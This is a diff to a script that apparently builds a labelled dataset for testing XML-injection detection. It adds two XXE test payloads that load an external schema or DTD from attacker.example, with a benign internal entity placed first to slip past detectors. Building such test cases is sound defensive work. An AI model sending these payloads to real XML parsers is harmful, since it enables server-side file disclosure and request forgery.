@@ -880,6 +880,11 @@ for (const v of SCHEMA_BENIGN) {
   ok('xml-schema', placeXml(v, { raw: true }));
   ok('xml-schema', placeForm('xml', v));
 }
+// A harmless internal entity declared first, to hide what comes after it.
+for (const v of [
+  `<!DOCTYPE s [<!ENTITY v "1.0">]><xs:schema ${XSD} version="&v;"><xs:redefine schemaLocation="https://attacker.example/base.xsd"/></xs:schema>`,
+  '<!DOCTYPE d SYSTEM "http://attacker.example/d.dtd" [<!ENTITY v "1.0">]><d>&v;</d>',
+]) add('xxe', placeXml(v, { raw: true }), true, 'internal entity first');
 
 // ---------------------------------------------------------------- write
 const lines = (rows) => rows.map((r) => JSON.stringify(r)).join('\n') + '\n';
